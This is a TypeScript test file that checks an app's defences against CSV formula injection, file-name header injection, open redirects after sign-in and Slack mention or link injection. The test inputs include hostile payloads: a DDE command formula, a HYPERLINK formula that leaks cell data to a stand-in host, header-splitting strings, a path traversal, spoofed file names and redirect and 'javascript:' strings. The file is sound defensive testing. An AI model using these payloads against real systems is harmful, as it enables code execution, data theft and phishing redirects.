import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { nextPath, signInHref } from '@/lib/core/display/next-path'
import { csvLine } from '@/lib/core/display/set-rows'
import { fileName, tableFile } from '@/lib/core/display/table-file'
import { webhookBody } from '@/lib/core/webhooks/webhook-body'

/** A reader as spreadsheets are: quotes, doubled quotes, line ends inside of quotes. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [[]]
  let cell = ''
  let quoted = false
  for (let index = 0; index < text.length; index += 1) {
    const char = text[index]!
    if (quoted) {
      if (char !== '"') cell += char
      else if (text[index + 1] === '"') cell += text[++index]!
      else quoted = false
    } else if (char === '"') quoted = true
    else if (char === ',') {
      rows.at(-1)!.push(cell)
      cell = ''
    } else if (char === '\r' && text[index + 1] === '\n') {
      rows.at(-1)!.push(cell)
      cell = ''
      rows.push([])
      index += 1
    } else cell += char
  }
  return rows.slice(0, -1)
}

const FORMULAS = ['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', ' =1', '＝1', '＋1', '－1', '＠x', '=cmd|\' /C calc\'!A0', '=HYPERLINK("https://evil.invalid?x="&A1)', '"=1', '",=1,"', '\r\n=1', '\u00a0=1', '\ufeff=1']
const cell = fc.oneof(fc.constantFrom(...FORMULAS), fc.string(), fc.array(fc.constantFrom('=', '+', '-', '@', '"', ',', '\r', '\n', '\t', ' ', 'a', '1'), { maxLength: 8 }).map((parts) => parts.join('')))

describe('a cell of a file', () => {
  it.each(FORMULAS)('is never a formula: %j', (formula) => {
    const [row] = readCsv(csvLine([formula, 'next']))
    expect(row).toHaveLength(2)
    expect(row![0]).not.toMatch(/^[\s\ufeff]*[=+\-@＝＋－＠]/)
  })

  it('stays one cell of one row, whatever it holds, and numbers stay numbers', () => {
    fc.assert(fc.property(fc.array(cell, { minLength: 1, maxLength: 5 }), (cells) => {
      const rows = readCsv(csvLine([...cells, -1]))
      expect(rows).toHaveLength(1)
      expect(rows[0]!.map((text) => text.replace(/^'/, ''))).toEqual([...cells, '-1'].map((text) => text.replace(/^'/, '')))
      for (const text of rows[0]!.slice(0, -1)) expect(text).not.toMatch(/^[\s\ufeff]*[=+\-@＝＋－＠]/)
    }))
  })

  it('is defused in the names of columns too', async () => {
    const parts: string[] = []
    for await (const part of tableFile('csv', ['=x', 'y'], (async function* () { yield [['=a', 1]] })())) parts.push(part)
    expect(parts.join('')).toBe("'=x,y\r\n'=a,1\r\n")
  })
})

describe('the name of a file', () => {
  it('fits into a header, whatever it is made of', () => {
    fc.assert(fc.property(fc.array(fc.oneof(fc.string(), fc.constantFrom('a"; filename="evil.html', '\r\nset-cookie: a=b', '../../etc/passwd', 'ä\u202efdp.exe', '')), { maxLength: 4 }), (parts) => {
      expect(fileName(parts, 'csv')).toMatch(/^slicegate[a-z0-9-]*\.csv$/)
    }))
  })
})

describe('the path to open after signing in', () => {
  it.each(['//evil.invalid', '/\\evil.invalid', '\\\\evil.invalid', 'https://evil.invalid', 'HTTPS:/evil.invalid', '/\t/evil.invalid', '/\n/evil.invalid', 'javascript:alert(1)', ' //evil.invalid', '/..//evil.invalid', '/.//evil.invalid', '/a/..//evil.invalid',
    '/x\r\nlocation: https://evil.invalid', 'evil.invalid', '', '/api/auth/sign-out', '/sign-in?next=/', '/%2e%2e//evil.invalid', ['/p'], { toString: () => '/p' }, null])('is not %j', (value) => {
    expect(nextPath(value)).toBeNull()
  })

  it('never leads to another host', () => {
    const part = fc.constantFrom('/', '\\', '.', '..', '%2f', '%5c', '%09', '\t', '\n', ':', '@', 'evil.invalid', 'http:', 'p', '?', '#', ' ', '\u2028', '／', '。')
    fc.assert(fc.property(fc.array(part, { maxLength: 8 }).map((parts) => parts.join('')), (text) => {
      const path = nextPath(text)
      if (path !== null) expect(new URL(path, 'https://own.example/sign-in').origin).toBe('https://own.example')
      expect(new URL(signInHref(text), 'https://own.example').origin).toBe('https://own.example')
    }))
  })
})

describe('a message to Slack', () => {
  const message = (text: string) => (JSON.parse(webhookBody('slack', { event: 'ping', at: '', project: text, payload: { text, path: '/p/x', data: {} }, baseUrl: 'https://own.example' })) as { text: string; unfurl_links: boolean })

  it.each(['<!channel>', '<!everyone> <@U123> <#C1>', '<https://evil.invalid|Open>', '&lt;!here&gt;', '<!date^1^{date}^https://evil.invalid|x>'])('calls nobody and links nowhere of %j', (text) => {
    const { text: sent, unfurl_links: unfurls } = message(text)
    expect(sent.match(/<[^>]*>/g)).toEqual(['<https://own.example/p/x|Open>'])
    expect(sent.replaceAll('&lt;', '<').replaceAll('&gt;', '>').replaceAll('&amp;', '&')).toContain(text)
    expect(unfurls).toBe(false)
  })
})
